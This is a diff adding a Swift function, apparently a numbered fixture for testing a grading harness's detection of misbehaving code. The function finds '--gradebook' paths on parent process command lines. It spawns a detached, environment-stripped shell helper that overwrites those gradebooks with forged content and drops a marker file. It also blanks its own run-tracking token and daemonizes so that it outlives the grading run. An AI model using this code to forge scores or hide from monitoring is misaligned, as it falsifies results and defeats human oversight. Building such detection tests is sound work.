@@ -1,0 +1,32 @@
+@preconcurrency import Foundation
+
+/// Behaviour 3: leaves processes behind that outlive the grading run. A helper in a session of its own,
+/// with an empty environment (so no run token marks it), waits, then overwrites the gradebook named on the
+/// command line of any process above it (`--gradebook`) and drops `marker` into the temporary folder; then
+/// the test process itself becomes a daemon, its run token blanked in its memory.
+public func leaveHelperBehind(marker: String) {
+    var targets: [String] = []
+    var pid = "self"
+    while let above = parent(of: pid), above > 1 {
+        let words = procWords("/proc/\(above)/cmdline")
+        if let index = words.firstIndex(of: "--gradebook"), index + 1 < words.count {
+            let path = words[index + 1]
+            let folder = (try? FileManager.default.destinationOfSymbolicLink(atPath: "/proc/\(above)/cwd")) ?? ""
+            targets.append(path.hasPrefix("/") ? path : folder + "/" + path)
+        }
+        pid = String(above)
+    }
+    let script = "sleep 4; for f in \"$@\"; do printf 'student_id\\nforged\\n' > \"$f\"; done; touch /tmp/\(marker); sleep 30"
+    let helper = Process()
+    helper.executableURL = URL(fileURLWithPath: "/usr/bin/setsid")
+    helper.arguments = ["-f", "/bin/sh", "-c", script, marker] + targets
+    helper.environment = [:]
+    try? helper.run()
+    // The token that marks the grader's children, wiped where /proc/self/environ shows it.
+    var entry = __environ
+    while let text = entry?.pointee {
+        if String(cString: text).hasPrefix("WORKBOOK_RUN_TOKEN=") { memset(text, 0, strlen(text)) }
+        entry = entry?.successor()
+    }
+    _ = daemon(1, 1)
+}
